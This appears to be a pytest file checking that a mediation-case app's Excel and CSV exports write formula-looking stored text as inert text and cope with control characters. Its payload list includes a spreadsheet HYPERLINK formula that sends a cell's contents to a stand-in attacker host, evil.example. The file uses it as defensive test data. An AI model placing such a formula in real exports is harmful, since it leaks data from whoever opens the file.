"""Class 8: exported text never becomes a live formula, and stored data never breaks an export."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from mediation_desk.services import statistics as st
from mediation_desk.services.base import SYSTEM
from mediation_desk.services.cases import register_case
from mediation_desk.services.ledger import export_ledger
from mediation_desk.store.engine import write_session
from mediation_desk.store.models import Case, CaseParty, Category, Person
from tests.helpers.factories import new_case

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def _stored(db, payload: str, category_code: str) -> None:  # type: ignore[no-untyped-def]
    """A case whose mediator and category carry ``payload`` as stored (older data, another client)."""
    case_id = register_case(db, SYSTEM, new_case(1, category=category_code)).case_id
    with write_session(db.engine) as s:
        mediator = Person(name=payload, member_role="mediator")
        s.add(mediator)
        s.add(Category(code=category_code, name_zh=payload))
        s.flush()
        s.execute(
            update(Case)
            .where(Case.id == case_id)
            .values(chief_mediator_id=mediator.id, chief_mediator_name=payload)
        )


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [
            m
            for n in z.namelist()
            if n.startswith("xl/worksheets/")
            for m in re.findall(r"<f>.*?</f>", z.read(n).decode())
        ]


def _unprotected(path: Path) -> list[str]:
    """Formula-looking text cells without Excel's quote prefix (editing them would run them)."""
    wb = load_workbook(path)
    return [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
        and c.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))  # XML reads a leading CR back as LF
        and not c.quotePrefix
    ]


def _values(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {
        v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_ledger_writes_formula_text_as_text(db, tmp_path: Path, payload: str) -> None:  # type: ignore[no-untyped-def]
    _stored(db, payload, "evil")
    path = tmp_path / "ledger.xlsx"
    assert export_ledger(db, SYSTEM, path) == 1
    assert _formulas(path) == [] and _unprotected(path) == []
    assert payload.replace("\r", "\n") in _values(path) or payload in _values(path)


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_the_ledger_book_writes_formula_text_as_text(db, tmp_path: Path, payload: str) -> None:  # type: ignore[no-untyped-def]
    from datetime import date

    from mediation_desk.services.ledger_book import export_book

    _stored(db, payload, "evil")
    path = tmp_path / "book.xlsx"
    export_book(db, SYSTEM, path, start=date(2026, 1, 1), end=date(2026, 12, 31))
    assert _formulas(path) == [] and _unprotected(path) == []


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_the_statistics_export_writes_formula_text_as_text(db, tmp_path: Path, payload: str) -> None:  # type: ignore[no-untyped-def]
    try:
        from mediation_desk.services.statistics_export import export_statistics
    except ImportError:  # 0.3.1 kept it in services.ledger
        from mediation_desk.services.ledger import export_statistics  # type: ignore[attr-defined,no-redef]

    _stored(db, payload, "evil")
    path = tmp_path / "stats.xlsx"
    export_statistics(db, SYSTEM, path, st.month(2026, 3))
    assert _formulas(path) == [] and _unprotected(path) == []
    assert payload in _values(path)


def test_control_characters_already_stored_never_break_the_export(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    case_id = register_case(db, SYSTEM, new_case(1)).case_id
    with write_session(db.engine) as s:
        pid = s.execute(
            select(CaseParty.person_id).where(CaseParty.case_id == case_id, CaseParty.sort_order == 0)
        ).scalar_one()
        s.execute(update(Person).where(Person.id == pid).values(name="张\x07伟\x1b[31m"))
    path = tmp_path / "ledger.xlsx"
    assert export_ledger(db, SYSTEM, path) == 1
    assert any("张\ufffd伟\ufffd[31m" in v for v in _values(path))


def test_csv_fields_get_a_quote_prefix() -> None:
    from mediation_desk.services.sheet_cells import csv_field

    assert [csv_field(p) for p in ("=1+1", "@x", "张伟", None, 5)] == ["'=1+1", "'@x", "张伟", "", "5"]
